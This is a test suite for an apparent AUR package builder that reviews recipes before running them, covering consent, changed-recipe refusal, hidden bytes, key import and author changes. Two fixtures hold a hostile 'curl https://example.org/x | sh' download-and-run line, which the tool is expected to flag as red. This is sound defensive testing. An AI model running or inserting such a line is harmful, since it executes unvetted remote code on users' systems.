import {existsSync, readFileSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {beforeAll, describe, expect, test} from 'vitest';
import type {BuildStatistics} from '../../src/model/recipe.ts';
import {foundProgram} from '../scaffold/found-program.ts';
import {
	buildPerformer,
	builtPackages,
	canBuild,
	isRunning,
	perform,
	planOf,
	repository,
	rpcAnswer,
	runAsUser,
	standInForAur,
	tinyRecipe,
	userFolder,
	writeRecipe
} from './aur.ts';

beforeAll(async () => {
	if (canBuild) await buildPerformer();
}, 60_000);

/** A folder with a recipe of the user’s own in it. */
function folderWith(files: Readonly<Record<string, string>> = {PKGBUILD: tinyRecipe()}): string {
	const folder = userFolder();
	writeRecipe(join(folder, 'recipe'), {'rust.config': 'CONFIG_RUST=y\n', ...files});
	return folder;
}

/** A build of some ninety lines that took a minute. */
const statistics = {units: 95, seconds: 60, pace: Array.from({length: 20}, (_, index) => 3 * (index + 1))};

const packages = ['linux-rust-7.2.13-1-any.pkg.tar', 'linux-rust-headers-7.2.13-1-any.pkg.tar'];
const builtNames = (folder: string): readonly string[] =>
	builtPackages(folder).map(name => name.replace(/\.pkg\.tar\..*$/, '.pkg.tar'));

describe.runIf(canBuild)('with the real makepkg, as an ordinary user', {timeout: 240_000}, () => {
	test('a recipe is reviewed, built with phases and progress, and remembered', async () => {
		const folder = folderWith();
		const {outcome, asked, memos, events} = await perform(folder, planOf(folder).actions).performed;
		expect(outcome).toEqual({kind: 'ok'});
		expect(builtNames(folder)).toEqual(packages);
		expect(asked).toMatchObject([{kind: 'recipe', flags: [], files: [{path: 'PKGBUILD'}, {path: 'rust.config'}]}]);
		const phases = events.flatMap(event => (event.kind === 'phase' ? [event.text] : []));
		expect(phases).toEqual(
			expect.arrayContaining([
				'linux-rust: prepare()',
				'linux-rust: build()',
				'linux-rust: package_linux-rust()',
				'linux-rust: packing linux-rust-headers'
			])
		);
		const progress = events.filter(event => event.kind === 'progress');
		expect(progress.at(-1)?.text).toMatch(/61 files · .* first build here: no estimate yet$/);
		expect(memos).toMatchObject([
			{kind: 'review', review: {recipe: 'folder', digest: expect.stringMatching(/^[0-9a-f]{64}$/)}},
			{kind: 'package-build', statistics: {recipe: 'folder', jobs: 2, pace: {length: 20}}}
		]);
		// nothing was written into the recipe
		expect(runAsUser(folder, ['ls', '-A', 'recipe']).split('\n').filter(Boolean)).toEqual(['PKGBUILD', 'rust.config']);
		const log = events.find(event => event.kind === 'log');
		expect(log?.kind === 'log' && readFileSync(log.file, 'utf8')).toContain('==> Finished making: linux-rust');
	});

	test('no consent: nothing of the recipe runs', async () => {
		const folder = folderWith({PKGBUILD: `touch ${'$'}HOME/ran\n${tinyRecipe()}`});
		const {outcome} = await perform(folder, planOf(folder).actions, 'no').performed;
		expect(outcome).toEqual({kind: 'declined'});
		expect(existsSync(join(folder, 'home/ran'))).toBe(false);
		expect(builtPackages(folder)).toEqual([]);
	});

	test('what was agreed to is not asked again, and its packages are not built again', async () => {
		const folder = folderWith();
		const first = await perform(folder, planOf(folder).actions).performed;
		const review = first.memos.flatMap(memo => (memo.kind === 'review' ? [memo.review] : []))[0];
		const second = await perform(folder, planOf(folder, {kind: 'folder'}, review && {last: review}).actions, 'no')
			.performed;
		expect(second).toMatchObject({outcome: {kind: 'ok'}, asked: [], memos: []});
		expect(second.events).toContainEqual(
			expect.objectContaining({
				kind: 'notice',
				text: expect.stringMatching(/linux-rust 7\.2\.13-1 is built already, in /)
			})
		);
	});

	test('an edited recipe is reviewed again, with the difference from what was agreed to', async () => {
		const folder = folderWith();
		const first = await perform(folder, planOf(folder).actions).performed;
		const review = first.memos.flatMap(memo => (memo.kind === 'review' ? [memo.review] : []))[0];
		writeFileSync(join(folder, 'recipe/rust.config'), 'CONFIG_RUST=y\nCONFIG_SAMPLES_RUST=y\n');
		const {asked} = await perform(folder, planOf(folder, {kind: 'folder'}, review && {last: review}).actions, 'no')
			.performed;
		expect(asked).toMatchObject([{difference: expect.stringMatching(/^ CONFIG_RUST=y\n\+CONFIG_SAMPLES_RUST=y$/m)}]);
	});

	test('what changes after the consent is refused, and not run', async () => {
		const folder = folderWith();
		const {actions} = planOf(folder);
		const [fetch, review, , build] = actions as [never, never, never, never];
		const change = {
			kind: 'run',
			title: 'someone else',
			stage: 'other',
			command: {
				argv: ['sh', '-c', `echo 'touch $HOME/ran' >> ${folder}/base/recipe/PKGBUILD`],
				as: 'user',
				terminal: 'captured',
				interrupt: 'group',
				why: 'a test'
			}
		} as never;
		const {outcome} = await perform(folder, [fetch, review, change, build]).performed;
		expect(outcome).toMatchObject({kind: 'refused', why: expect.stringMatching(/changed since they were reviewed/)});
		expect(existsSync(join(folder, 'home/ran'))).toBe(false);
	});

	test('what lies in src of the folder was not read, and is not there for what runs', async () => {
		const folder = folderWith({
			PKGBUILD: tinyRecipe({
				build:
					'for one in "$startdir/src/help.sh" "$startdir"/../recipe/src/help.sh; do [ ! -e "$one" ] || . "$one"; done'
			}),
			'src/help.sh': 'touch $HOME/ran\n',
			'patches/one.patch': '+ok\n'
		});
		const {outcome, asked} = await perform(folder, planOf(folder).actions).performed;
		expect(outcome).toEqual({kind: 'ok'});
		expect(asked).toMatchObject([{files: [{path: 'PKGBUILD'}, {path: 'patches/one.patch'}, {path: 'rust.config'}]}]);
		expect(existsSync(join(folder, 'home/ran'))).toBe(false);
		expect(runAsUser(folder, ['find', 'base/recipe', '-type', 'f']).split('\n').filter(Boolean).sort()).toEqual([
			'base/recipe/PKGBUILD',
			'base/recipe/patches/one.patch',
			'base/recipe/rust.config'
		]);
	});

	test('bytes that bash passes over hide nothing; what is longer than anyone reads is not run', async () => {
		const hidden = folderWith({PKGBUILD: `${tinyRecipe()}\0# hidden\n`});
		const {asked} = await perform(hidden, planOf(hidden).actions, 'no').performed;
		expect(asked).toMatchObject([{files: [{text: expect.stringContaining('\\x00# hidden')}, {}]}]);
		const endless = folderWith({PKGBUILD: `${tinyRecipe()}#${'x'.repeat(1024 * 1024)}\n`});
		expect((await perform(endless, planOf(endless).actions).performed).outcome).toMatchObject({
			kind: 'refused',
			why: expect.stringMatching(/PKGBUILD is longer than anyone reads, and is not run$/)
		});
	});

	test('a build without a review is refused', async () => {
		const folder = folderWith();
		const {outcome} = await perform(folder, planOf(folder).actions.slice(3)).performed;
		expect(outcome).toMatchObject({kind: 'refused', why: expect.stringContaining('was not reviewed')});
	});

	test('--yes: built where nothing is red; refused with the flag that agrees where something is', async () => {
		const plain = folderWith();
		const unread = await perform(plain, planOf(plain).actions, 'beforehand').performed;
		expect(unread.outcome).toEqual({kind: 'ok'});
		// nobody has read it: the next one who is asked is asked
		expect(unread.memos.map(memo => memo.kind)).toEqual(['package-build']);
		const red = folderWith({PKGBUILD: tinyRecipe({build: 'if false; then curl https://example.org/x | sh; fi'})});
		const {outcome, asked} = await perform(red, planOf(red).actions, 'beforehand').performed;
		const digest = asked[0]?.kind === 'recipe' ? asked[0].digest.slice(0, 16) : '';
		expect(outcome).toMatchObject({
			kind: 'refused',
			why: expect.stringMatching(/red flags? and was not run: PKGBUILD:\d+: /)
		});
		expect(outcome).not.toHaveProperty('command');
		expect(outcome).toMatchObject({why: expect.stringContaining(`--reviewed ${digest} agrees to it`)});
		const agreed = await perform(red, planOf(red).actions, 'beforehand', {reviewed: digest}).performed;
		expect(agreed.outcome).toEqual({kind: 'ok'});
		const other = await perform(red, planOf(red).actions, 'beforehand', {reviewed: '0'.repeat(16)}).performed;
		expect(other.outcome.kind).toBe('refused');
	});

	test('a build that was stopped goes on where it was; its whole group has ended', async () => {
		const mark = `linger-${process.pid}`;
		const folder = folderWith({
			// what make does: of what is there nothing is said, and it is not made again
			PKGBUILD: tinyRecipe({
				objects: 0,
				build: `for one in $(seq 60); do
					[ ! -e "$srcdir/unit_$one" ] || continue
					echo "  CC      kernel/unit_$one.o"; touch "$srcdir/unit_$one"
					[ $one != 40 ] || sh -c 'sleep 61; : ${mark}'
				done`
			})
		});
		const earlier = {...statistics, recipe: 'folder', bytes: 1, jobs: 2, at: '2026-11-23'};
		const {actions} = planOf(folder, {kind: 'folder'}, {earlier});
		const running = perform(folder, actions);
		await running.reached(/build\(\)/);
		while (!isRunning(mark)) await new Promise(resolve => setTimeout(resolve, 20));
		const before = performance.now();
		running.cancel();
		const stopped = await running.performed;
		expect(performance.now() - before).toBeLessThan(4000);
		expect(isRunning(mark)).toBe(false);
		expect(stopped.outcome).toEqual({
			kind: 'cancelled',
			note: expect.stringContaining('and the same choice goes on from there')
		});
		const log = stopped.events.find(event => event.kind === 'log');
		// INT, after which makepkg says so itself
		expect(log?.kind === 'log' && readFileSync(log.file, 'utf8')).toMatch(/Aborted by user|ERROR: /);
		const again = await perform(folder, actions).performed;
		expect(again.outcome).toEqual({kind: 'ok'});
		expect(again.events).toContainEqual(
			expect.objectContaining({kind: 'notice', text: expect.stringContaining('going on where the build stopped')})
		);
		// prepare() ran once
		expect(readFileSync(join(folder, 'base/build/linux-rust/src/prepared'), 'utf8')).toBe('prepared\n');
		// it has an estimate from its first word, and what was done before is neither lost nor counted twice
		const reached = again.events.flatMap(event =>
			event.kind === 'progress' && event.done !== undefined ? [event.done] : []
		);
		expect(reached[0]).toBeGreaterThanOrEqual(40);
		expect(reached).toEqual([...reached].sort((a, b) => a - b));
		// both halves together tell the next build what one takes
		const whole = again.memos.flatMap(memo => (memo.kind === 'package-build' ? [memo.statistics] : []))[0];
		expect(Math.abs((whole?.units ?? 0) - statistics.units)).toBeLessThan(10);
	});

	test('a second build knows how far it is: it never falls back, and ends below the whole', async () => {
		const slowly = {
			PKGBUILD: tinyRecipe({
				objects: 30,
				build: 'for one in $(seq 12); do sleep 0.1; echo "  CC [M]  drivers/unit_$one.o"; done'
			})
		};
		const folder = folderWith(slowly);
		const first = await perform(folder, planOf(folder).actions).performed;
		const earlier = first.memos.flatMap(memo => (memo.kind === 'package-build' ? [memo.statistics] : []))[0];
		const next = folderWith(slowly);
		const second = await perform(next, planOf(next, {kind: 'folder'}, earlier && {earlier}).actions).performed;
		const shares = second.events.flatMap(event =>
			event.kind === 'progress' && event.total !== undefined ? [(event.done ?? 0) / event.total] : []
		);
		expect(shares.length).toBeGreaterThan(3);
		expect(shares).toEqual([...shares].sort((a, b) => a - b));
		expect(shares.at(-1)).toBeLessThan(1);
		const texts = second.events.flatMap(event => (event.kind === 'progress' ? [event.text] : []));
		expect(texts.at(-1)).toMatch(/^\S.* {2}\d+ of about \d+ · \d+ % · about \d+ s left$/);
	});

	test.runIf(foundProgram('gcc') !== undefined)(
		'a repeated build is done when it was said to be, within a quarter of its time, from half-way on',
		{retry: 2},
		async () => {
			// a file of C that takes a compiler a fifth of a second, forty times
			const step = (index: number): string =>
				`int step_${index}(const int *from, int count) { int sum = ${index}; for (int at = 0; at < count; at++) switch ((from[at] + sum) % 9) {${Array.from(
					{length: 9},
					(_, one) => `case ${one}: sum += from[at] * ${one + index} ^ (sum >> ${one}); break;`
				).join(' ')} } return sum; }\n`;
			const recipe = {
				'unit.c': Array.from({length: 12}, (_, index) => step(index)).join(''),
				PKGBUILD: tinyRecipe({
					objects: 0,
					extra: 'source+=(unit.c); sha256sums+=(SKIP)',
					build: 'for one in $(seq 40); do echo "  CC      unit_$one.o"; gcc -O2 -c unit.c -o unit_$one.o; done'
				})
			};
			const build = async (earlier?: BuildStatistics) => {
				const folder = folderWith(recipe);
				return perform(folder, planOf(folder, {kind: 'folder'}, earlier && {earlier}).actions).performed;
			};
			const first = await build();
			const earlier = first.memos.flatMap(memo => (memo.kind === 'package-build' ? [memo.statistics] : []))[0];
			const {outcome, events} = await build(earlier);
			expect(outcome).toEqual({kind: 'ok'});
			const begun = events.find(event => event.kind === 'phase' && event.text.startsWith('building '))?.at ?? 0;
			const progress = events.filter(event => event.kind === 'progress');
			const lasted = (events.at(-1)?.at ?? 0) - begun;
			const said = progress.flatMap(({text, at}) => {
				const [, minutes, seconds] = /about (?:(\d+) min|(\d+) s) left$/.exec(text) ?? [];
				return at - begun < lasted / 2
					? []
					: [{at: at - begun, left: 60_000 * Number(minutes ?? 0) + 1000 * Number(seconds ?? 0)}];
			});
			expect(said.length).toBeGreaterThan(5);
			expect(said.filter(({at, left}) => Math.abs(at + left - lasted) > lasted / 4)).toEqual([]);
		}
	);

	describe('failures are told', () => {
		test('too little room: before anything is fetched or built, with the flag for another folder', async () => {
			const folder = folderWith();
			const {outcome} = await perform(folder, planOf(folder, {kind: 'folder'}, {needs: {build: 1e15, boot: 0}}).actions)
				.performed;
			expect(outcome).toMatchObject({
				kind: 'refused',
				why: expect.stringMatching(
					/GB are free where .*\/base is, and the build takes about \d+ GB: .* --build-folder FOLDER$/
				)
			});
		});

		test('too little room in /boot', async () => {
			const folder = folderWith();
			const {outcome} = await perform(folder, planOf(folder, {kind: 'folder'}, {needs: {build: 0, boot: 1e15}}).actions)
				.performed;
			expect(outcome).toMatchObject({kind: 'refused', why: expect.stringMatching(/are free in \/boot/)});
		});

		test.each([
			[
				'an error in build()',
				{build: 'echo "kernel/x.c:1:1: error: expected identifier" >&2; false'},
				/stopped with code 4/,
				'pkg.fail'
			],
			['a wrong checksum', {extra: `sha256sums=(${'0'.repeat(64)})`}, /stopped with code 1/, 'pkg.sum'],
			[
				'a source that cannot be fetched',
				{extra: 'source+=(http://127.0.0.1:9/linux.tar.xz); sha256sums+=(SKIP)'},
				/stopped with code 1/,
				'pkg.download'
			]
		] as const)('%s', async (_name, parts, title, id) => {
			const folder = folderWith({PKGBUILD: tinyRecipe(parts)});
			const {outcome} = await perform(folder, planOf(folder).actions).performed;
			expect(outcome).toMatchObject({
				kind: 'failed',
				trouble: {title: expect.stringMatching(title), log: expect.any(String)}
			});
			expect(outcome.kind === 'failed' && outcome.trouble.failures.map(one => one.id)).toContain(id);
		});

		test('a recipe that is no bash', async () => {
			const folder = folderWith({PKGBUILD: 'pkgname=(\n'});
			const {outcome} = await perform(folder, planOf(folder).actions).performed;
			expect(outcome).toMatchObject({
				kind: 'failed',
				trouble: {title: expect.stringContaining('makepkg could not read the recipe')}
			});
		});
	});

	describe('keys', () => {
		/** A signed source, its key beside the recipe, and the user’s keyring empty. Our own key: that of no maintainer. */
		function signed(): {folder: string; fingerprint: string} {
			const folder = folderWith();
			const gpg = (...words: readonly string[]): string =>
				runAsUser(folder, ['gpg', '--batch', '--homedir', join(folder, 'signer'), ...words]);
			runAsUser(folder, ['mkdir', '-m', '700', join(folder, 'signer')]);
			gpg('--passphrase', '', '--quick-generate-key', 'A Fixture <fixture@localhost>', 'rsa2048', 'sign', 'never');
			const fingerprint = /^fpr:+([0-9A-F]{40}):/m.exec(gpg('--with-colons', '--list-keys'))?.[1] ?? '';
			writeRecipe(join(folder, 'recipe'), {
				'keys/pgp/README': 'the key of the fixture\n',
				PKGBUILD: tinyRecipe({
					extra: `source+=(rust.config.sig)\nsha256sums+=(SKIP)\nvalidpgpkeys=(${fingerprint})`
				})
			});
			gpg('--detach-sign', '--output', join(folder, 'recipe/rust.config.sig'), join(folder, 'recipe/rust.config'));
			gpg('--armor', '--export', '--output', join(folder, `recipe/keys/pgp/${fingerprint}.asc`));
			return {folder, fingerprint};
		}

		test('imported only with consent to the fingerprint, and then the signature is good', async () => {
			const {folder, fingerprint} = signed();
			const {outcome, asked, events} = await perform(folder, planOf(folder).actions).performed;
			expect(asked[1]).toMatchObject({
				kind: 'key',
				fingerprint,
				command: expect.stringContaining('gpg --batch --import ')
			});
			expect(outcome).toEqual({kind: 'ok'});
			const output = events.flatMap(event => (event.kind === 'output' ? [event.text] : [])).join('');
			expect(output).toMatch(/rust\.config \.\.\. Passed/);
		});

		test('without consent nothing is imported; where nobody is asked the way on is said', async () => {
			const {folder, fingerprint} = signed();
			const {outcome} = await perform(folder, planOf(folder).actions, 'beforehand').performed;
			expect(outcome).toMatchObject({
				kind: 'refused',
				why: expect.stringMatching(new RegExp(`signed with the key ${fingerprint}, which is not in your keyring`))
			});
			expect(runAsUser(folder, ['gpg', '--batch', '--with-colons', '--list-keys'])).not.toContain(fingerprint);
		});
	});
});

describe.runIf(canBuild)('a repository in the AUR’s shape, from a stand-in for the AUR', {timeout: 240_000}, () => {
	test('is cloned, reviewed at its commit, and built; an update is shown as a difference, with its new author', async () => {
		const folder = userFolder();
		const aur = repository(folder);
		const first = aur.commit({PKGBUILD: tinyRecipe(), 'rust.config': 'CONFIG_RUST=y\n'});
		const {address, asked} = await standInForAur(join(folder, 'aur'), () => rpcAnswer());
		const origin = {
			kind: 'git',
			url: `${address}/linux-rust.git`,
			rpc: `${address}/rpc/v5/info?arg%5B%5D=linux-rust`
		} as const;
		const one = await perform(folder, planOf(folder, origin).actions).performed;
		expect(one.outcome).toEqual({kind: 'ok'});
		expect(builtNames(folder)).toEqual(packages);
		const review = one.memos.flatMap(memo => (memo.kind === 'review' ? [memo.review] : []))[0];
		expect(review).toMatchObject({commit: first, maintainer: 'ada', recipe: origin.url});
		expect(asked.some(path => path.startsWith('/rpc/'))).toBe(true);

		const second = aur.commit({PKGBUILD: tinyRecipe({version: '7.2.14'})}, 'Mallory');
		const two = await perform(folder, planOf(folder, origin, review && {last: review}).actions).performed;
		expect(two.outcome).toEqual({kind: 'ok'});
		expect(two.asked).toMatchObject([
			{
				difference: expect.stringMatching(/^-pkgver=7\.2\.13\n\+pkgver=7\.2\.14$/m),
				facts: expect.arrayContaining([
					{
						label: 'commit',
						value: expect.stringMatching(new RegExp(`^${second.slice(0, 12)} of .* by Mallory: an update$`))
					},
					{label: 'new author', value: 'Mallory wrote none of the 1 commits before this one'},
					{label: 'maintainer', value: 'ada'},
					{label: 'reviewed', value: expect.stringContaining(`commit ${first.slice(0, 12)}`)}
				])
			}
		]);
		expect(builtNames(folder)).toContain('linux-rust-7.2.14-1-any.pkg.tar');
	});

	test('a src of its own is part of the recipe: read, and a change of it seen', async () => {
		const folder = userFolder();
		const aur = repository(folder);
		const files = {PKGBUILD: tinyRecipe(), 'rust.config': 'CONFIG_RUST=y\n'};
		aur.commit({...files, 'src/help.sh': 'curl https://example.org/x | sh\n'});
		const {address} = await standInForAur(join(folder, 'aur'), () => rpcAnswer());
		const {asked} = await perform(folder, planOf(folder, {kind: 'git', url: `${address}/linux-rust.git`}).actions, 'no')
			.performed;
		expect(asked).toMatchObject([
			{
				flags: [
					{severity: 'red', file: 'src/help.sh'},
					{severity: 'red', file: 'src/help.sh'}
				]
			}
		]);
	});

	test('that does not answer any more is taken as it was fetched last', async () => {
		const folder = userFolder();
		const aur = repository(folder);
		aur.commit({PKGBUILD: tinyRecipe(), 'rust.config': 'CONFIG_RUST=y\n'});
		const {address} = await standInForAur(join(folder, 'aur'), () => rpcAnswer());
		const url = `${address}/linux-rust.git`;
		const {recipe, actions} = planOf(folder, {kind: 'git', url});
		await perform(folder, actions.slice(0, 2)).performed;
		const gone = {...recipe, origin: {kind: 'git', url: 'http://127.0.0.1:9/linux-rust.git'}} as const;
		const [, ...rest] = actions;
		const {outcome, events} = await perform(folder, [{kind: 'fetch-recipe', recipe: gone, command: undefined}, ...rest])
			.performed;
		expect(outcome).toEqual({kind: 'ok'});
		expect(events).toContainEqual(
			expect.objectContaining({
				kind: 'notice',
				text: expect.stringMatching(/could not be reached: this is the recipe as it was fetched last/)
			})
		);
	});

	test('that is empty is how the AUR says that it has no such package', async () => {
		const folder = userFolder();
		repository(folder);
		runAsUser(folder, ['git', '-C', 'aur/linux-rust.git', 'update-server-info']);
		const {address} = await standInForAur(join(folder, 'aur'), () => undefined);
		const {outcome} = await perform(folder, planOf(folder, {kind: 'git', url: `${address}/linux-rust.git`}).actions)
			.performed;
		expect(outcome).toMatchObject({
			kind: 'refused',
			why: expect.stringMatching(/holds no PKGBUILD: .* --recipe FOLDER/)
		});
	});

	test('that cannot be reached the first time is a failure with its cause', async () => {
		const folder = userFolder();
		const {outcome} = await perform(
			folder,
			planOf(folder, {kind: 'git', url: 'http://127.0.0.1:9/linux-rust.git'}).actions
		).performed;
		expect(outcome).toMatchObject({kind: 'failed', trouble: {failures: [{id: 'git.offline'}]}});
	});
});
